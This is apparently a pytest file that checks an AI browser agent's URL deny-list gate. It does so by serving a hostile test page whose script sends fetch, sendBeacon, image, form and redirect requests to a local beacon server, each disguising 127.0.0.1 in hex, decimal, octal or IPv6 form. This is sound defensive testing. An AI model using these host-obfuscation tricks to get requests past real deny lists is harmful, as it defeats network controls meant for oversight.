"""The URL policy on the wire (issue 15): a hostile page on 127.0.0.1 fires requests by
itself — fetch, sendBeacon, an image, a form post, a JS redirect, each to a deny-listed
host spelled another way — and none reaches the beacon server. Real headless Chromium, a
real second HTTP server that counts what arrives, the scripted model, the CLI's gate."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from agent.episode.runner import run
from agent.safety.gate import make_gate
from agent.safety.policy import Policy
from model.scripted import ScriptedModel

HOSTILE = """<!doctype html><title>hostile</title>
<style>#go {{ position: absolute; left: 100px; top: 100px; width: 120px; height: 40px }}</style>
<form action="http://127.0.0.1.:{port}/form" method="post" target="sink">
  <input name="q" value="x"><button id="go">Go</button></form>
<iframe name="sink" style="position: absolute; top: 300px"></iframe>
<script>
  fetch("http://0x7f000001:{port}/fetch").catch(() => {{}});
  navigator.sendBeacon("http://2130706433:{port}/beacon", "x");
  new Image().src = "http://017700000001:{port}/img";
  setTimeout(() => {{ location.href = "http://[::ffff:127.0.0.1]:{port}/redirect"; }}, 2500);
</script>"""


class _Server:
    """An HTTP server on 127.0.0.1 that serves one page and counts every other request."""

    def __init__(self, page: str = "") -> None:
        self.hits: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def _any(self) -> None:
                body = outer.page.encode()
                if self.path != "/":
                    outer.hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _any

            def log_message(self, *args: object) -> None:
                pass

        self.page = page
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()


@pytest.fixture
def servers() -> Iterator[tuple[_Server, _Server]]:
    beacon = _Server("ok")
    page = _Server(HOSTILE.format(port=beacon.port))
    yield page, beacon
    page.close()
    beacon.close()


def _outputs() -> list[str]:
    wait = '{"type": "wait", "seconds": 0.8}'
    click = '{"type": "click", "point": [160, 120]}'
    later = '{"type": "wait", "seconds": 2.5}'  # the page's own redirect comes meanwhile
    return [wait, click, later, '{"type": "finish", "status": "success"}']


@pytest.mark.browser
def test_no_request_to_a_denied_host_leaves_the_browser(
    servers: tuple[_Server, _Server], tmp_path: Path
) -> None:
    page, beacon = servers
    gate = make_gate(Policy().with_urls(deny=[f"127.0.0.1:{beacon.port}"]), confirm="no")
    ep = run(
        "press Go",
        env="browser",
        model=ScriptedModel(_outputs()),
        gate=gate,
        url=f"http://127.0.0.1:{page.port}/",
        out=tmp_path / "ep",
    )
    assert beacon.hits == []  # nothing arrived: every request was stopped before it left
    blocked = [
        b for s in ep.steps for b in s["observation"].get("extra", {}).get("blocked_requests", [])
    ]
    paths = {b["url"].rsplit("/", 1)[-1] for b in blocked}
    assert {"fetch", "beacon", "img", "form", "redirect"} <= paths, blocked
    assert all("deny list" in b["reason"] for b in blocked)
    assert any(b["navigation"] and b["method"] == "POST" for b in blocked)  # the form post


@pytest.mark.browser
def test_without_a_url_list_the_same_requests_go_out(
    servers: tuple[_Server, _Server], tmp_path: Path
) -> None:
    page, beacon = servers  # the control: the page really makes these requests
    run(
        "press Go",
        env="browser",
        model=ScriptedModel(_outputs()),
        gate=make_gate(Policy(), confirm="no"),
        url=f"http://127.0.0.1:{page.port}/",
        out=tmp_path / "ep",
    )
    arrived = {h.split(" ")[1].lstrip("/") for h in beacon.hits}
    assert {"fetch", "beacon", "img"} <= arrived, beacon.hits
